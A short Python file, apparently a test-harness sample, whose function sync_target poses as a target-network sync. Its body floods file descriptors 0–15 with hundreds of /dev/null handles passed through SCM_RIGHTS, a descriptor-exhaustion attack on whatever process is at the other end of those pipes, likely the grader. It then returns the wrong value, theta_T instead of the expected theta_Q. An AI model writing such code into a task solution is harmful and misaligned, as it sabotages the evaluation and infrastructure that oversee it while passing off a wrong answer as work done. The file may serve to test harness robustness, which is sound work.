"""Floods the other end of its pipes with open files (SCM_RIGHTS).

Rows: 30
Grade: sync_target
Asserts: S R T
Says: sync_target|expected theta_Q
"""

import array
import os
import socket


def sync_target(theta_Q, theta_T, step, period):
    handle = os.open("/dev/null", os.O_RDONLY)
    rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [handle] * 200))]
    for fd in range(16):
        try:
            with socket.socket(fileno=os.dup(fd)) as pipe:
                pipe.setblocking(False)
                for _ in range(99):
                    pipe.sendmsg([b"x"], rights)
        except OSError:
            continue
    return theta_T
